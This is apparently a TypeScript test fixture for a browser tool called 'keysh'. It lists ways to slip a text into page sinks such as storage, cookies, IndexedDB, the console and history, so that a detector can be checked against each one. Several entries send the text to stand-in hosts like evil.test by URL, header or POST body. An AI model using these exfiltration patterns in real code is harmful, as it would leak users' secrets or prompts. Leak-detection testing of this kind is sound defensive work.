import type { Console } from './page.ts';

/** Ways to let a text slip, each with the sink that must notice; each runs in the page. */
export const leaks: Readonly<Record<string, (text: string) => unknown>> = {
  screen: (text) =>
    (globalThis as unknown as { term: { write(s: string): void } }).term.write(text),
  document: (text) => document.body.setAttribute('data-hint', text),
  title: (text) => {
    document.title = text;
  },
  selection: (text) => {
    const note = document.body.appendChild(document.createElement('p'));
    note.textContent = text;
    getSelection()?.selectAllChildren(note);
  },
  field: (text) => {
    document.body.appendChild(document.createElement('textarea')).value = text;
  },
  address: (text) => history.replaceState(null, '', `#${encodeURIComponent(text)}`),
  navigation: (text) => {
    history.pushState(null, '', `#${text}`);
    history.pushState(null, '', '#');
  },
  message: (text) => new BroadcastChannel('keysh').postMessage({ text }),
  'history state': (text) => history.replaceState({ text }, ''),
  localStorage: (text) => localStorage.setItem('keysh-note', text),
  sessionStorage: (text) => sessionStorage.setItem('keysh-draft', text),
  cookies: (text) => {
    // biome-ignore lint/suspicious/noDocumentCookie: the leak is meant.
    document.cookie = `note=${text}`;
  },
  performance: (text) => performance.mark(text),
  caches: async (text) => (await caches.open('c')).put(`/?${text}`, new Response('')),
  accessibility: (text) => {
    document.body.setAttribute('aria-label', text);
  },
  IndexedDB: (text) =>
    new Promise<void>((resolve) => {
      const opening = indexedDB.open('leak', 1);
      opening.onupgradeneeded = () => opening.result.createObjectStore('bots');
      opening.onsuccess = () => {
        const change = opening.result.transaction('bots', 'readwrite');
        change.objectStore('bots').put({ system: text, k: 'kept' }, 'bot');
        change.oncomplete = () => {
          opening.result.close();
          resolve();
        };
      };
    }),
  // biome-ignore lint/suspicious/noConsole: the leak is meant.
  console: (text) => console.warn({ text }),
  error: (text) => {
    setTimeout(() => {
      throw new Error(text);
    });
  },
  log: (text) => fetch(`missing?${text}`).catch(() => undefined),
  violation: (text) => fetch(`https://elsewhere.test/?${text}`).catch(() => undefined),
  'request address': (text) => fetch(`https://evil.test/?${text}`).catch(() => undefined),
  'request header': (text) =>
    fetch('https://evil.test/', { headers: { 'x-note': text } }).catch(() => undefined),
  'request body': (text) =>
    fetch('https://api.groq.com/', { method: 'POST', body: text }).catch(() => undefined),
};

/** Lets the text slip into the named sink of the page, and gives the browser time to notice. */
export async function plantLeak({ page }: Console, sink: string, text: string): Promise<void> {
  const leak = leaks[sink];
  if (!leak) throw new Error(`no leak for ${sink}`);
  await page.evaluate(`(${leak})(${JSON.stringify(text)})`);
  await page.waitForTimeout(50);
}
